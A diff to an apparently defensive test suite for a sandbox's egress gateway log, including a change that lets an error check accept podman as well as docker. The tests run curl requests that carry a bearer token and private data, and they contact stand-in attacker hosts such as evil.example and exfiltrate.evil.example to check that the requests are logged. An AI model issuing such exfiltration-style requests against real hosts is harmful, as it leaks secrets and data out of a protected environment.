@@ -13,7 +13,7 @@ describe("the log of a sandbox's gateway", function () {
       `curl -sS -H "Authorization: Bearer $TOKEN" -H 'X-Private: header' -d 'a body' 'https://a.example/private/path?query=private'`,
     );
     await sandbox.run("curl -sS http://evil.example/private/path");
-    await sandbox.run("getent hosts exfiltrate.evil.example");
+    await sandbox.ask("exfiltrate.evil.example");
     await sandbox.logged(({ domain }) => domain === "exfiltrate.evil.example");
   });
 
@@ -78,7 +78,7 @@ describe("the log of a sandbox's gateway", function () {
     assert.deepEqual([exitCode, out], [1, ""]);
     assert.match(
       err,
-      /^There is no gateway of cntr_gone at docker:\S+\. It has no allow list, is gone, or is on another engine/,
+      /^There is no gateway of cntr_gone at (docker|podman):\S+\. It has no allow list, is gone, or is on another engine/,
     );
     assert.equal((await egress())[0], 2);
     assert.equal((await egress("a", "b"))[0], 2);
